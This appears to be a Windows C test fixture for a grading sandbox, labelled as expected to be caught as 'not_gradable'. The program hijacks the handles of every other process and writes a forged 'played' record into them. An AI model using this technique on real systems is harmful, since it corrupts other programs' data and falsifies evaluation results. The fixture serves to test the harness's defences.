// expected: not_gradable reached_out: writes to everything that other processes have open.
#include <windows.h>
#include <tlhelp32.h>

int main()
{
    HANDLE all = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0), mine;
    PROCESSENTRY32W entry;
    DWORD written;
    entry.dwSize = sizeof entry;
    for (BOOL more = Process32FirstW(all, &entry); more; more = Process32NextW(all, &entry)) {
        HANDLE process = OpenProcess(PROCESS_DUP_HANDLE, FALSE, entry.th32ProcessID);
        for (UINT_PTR number = 4; process != NULL && number < 400; number += 4)
            if (DuplicateHandle(process, (HANDLE)number, GetCurrentProcess(), &mine, 0, FALSE, DUPLICATE_SAME_ACCESS))
                WriteFile(mine, "{\"t\":\"played\"}\n", 15, &written, NULL);
    }
    return 0;
}
